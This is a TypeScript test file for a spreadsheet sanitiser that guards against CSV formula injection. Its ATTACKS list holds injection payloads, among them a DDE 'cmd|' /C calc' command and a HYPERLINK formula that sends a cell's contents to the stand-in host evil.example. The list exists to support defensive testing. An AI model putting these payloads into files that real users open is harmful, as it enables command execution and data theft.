import assert from "node:assert/strict";
import { test } from "node:test";
import { parse } from "csv-parse/sync";
import { readXlsx, writeXlsx } from "hucre/xlsx";
import { csvLine, inertText, sheetText } from "./spreadsheet-cell.ts";

/**
 * Splits a line as spreadsheets do: at the locale's separator, ignoring quotes inside a cell that does not start with a quote.
 */
const SPLITS = [/[,\r\n]/, /[;\r\n]/, /[\t\r\n]/, /[|\r\n]/];
const FORMULA = /^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/;

const ATTACKS = [
  "=1+1",
  "+1",
  "-1+cmd|' /C calc'!A0",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "  =1",
  "\u{a0}=1",
  '"=1+1"',
  'x","=1+1',
  "x;=1+1",
  "x\t=1+1",
  "x\r\n=1+1",
  "\uff1d1+1",
  '=HYPERLINK("https://evil.example/?"&A1,"ok")',
];

test("no text becomes a formula in a CSV file, whatever separator the spreadsheet uses", () => {
  for (const attack of ATTACKS) {
    const line = csvLine(["before", attack, "after"]);
    for (const split of SPLITS) {
      for (const cell of line.split(split)) assert.doesNotMatch(cell, FORMULA, JSON.stringify([attack, line]));
    }
    const [cells] = parse(line);
    assert.equal(cells?.length, 3, attack);
    assert.equal(cells?.[1]?.replaceAll("'", ""), attack.replaceAll("'", ""), "only apostrophes are added");
  }
});

test("leaves other text, numbers, null and booleans unchanged", () => {
  for (const text of ["", "web-1", "a@example.com", "1-2", "x=y", "two words"]) assert.equal(inertText(text), text);
  assert.equal(csvLine(["a", -1, null, true, "b,c"]), 'a,-1,,true,"b,c"\r\n');
});

test("a spreadsheet file with any text can be opened", async () => {
  const texts = [
    "\u0001\u001b[31m",
    "\ufffe\uffff",
    "x".repeat(40_000),
    `${"x".repeat(32_766)}\u{1f511}`,
    "=1+1",
    "]]>&<",
  ];
  const file = await writeXlsx({ sheets: [{ name: "A", columns: [], rows: texts.map((text) => [sheetText(text)]) }] });
  const { sheets } = await readXlsx(file);
  const read = sheets[0]!.rows.map(([cell]) => String(cell));
  assert.deepEqual(read.slice(0, 2), ["\u0001\u001b[31m", "\ufffd\ufffd"]);
  assert.deepEqual(
    read.map(({ length }) => length),
    [6, 2, 32_767, 32_767, 5, 5],
  );
});

test("takes linear time", () => {
  for (const part of ["\n", " ", ",", "=", " =", "x "]) {
    const text = part.repeat(200_000);
    const startedAt = performance.now();
    inertText(text);
    assert.ok(performance.now() - startedAt < 2_000, JSON.stringify(part));
  }
});
